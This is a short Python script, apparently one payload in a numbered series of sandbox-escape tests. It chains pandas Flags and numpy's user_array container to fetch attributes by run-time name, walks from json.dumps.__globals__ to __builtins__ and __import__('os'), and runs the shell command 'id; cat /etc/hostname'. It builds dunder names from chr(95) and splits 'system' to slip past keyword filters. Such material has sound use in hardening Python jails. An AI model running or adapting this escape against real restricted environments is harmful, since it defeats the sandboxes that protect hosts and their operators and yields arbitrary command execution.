# source: same chain as 005; forwarder from numpy 1.24 lib/user_array.py container.__getattr__ (self.array.__getattribute__(attr))
# family: inherit library methods into a script class: Flags.__getitem__ (getattr by run-time name) + numpy.lib.user_array.container forwarding to any object
# goal: json.dumps.__globals__ -> __builtins__ -> __import__('os') -> os.system('id')
import json
import pandas as pd
from numpy.lib.user_array import container

U = chr(95) * 2


class Everything:
    def __contains__(self, item):
        return True


class G(pd.Flags, container):
    _keys = Everything()

    def __init__(self, target):
        self.array = target


def attr(obj, name):
    return G(obj)[name]


b = attr(json.dumps, U + "globals" + U)[U + "builtins" + U]
osm = b[U + "import" + U]("os")
attr(osm, "sys" + "tem")("id; cat /etc/hostname")
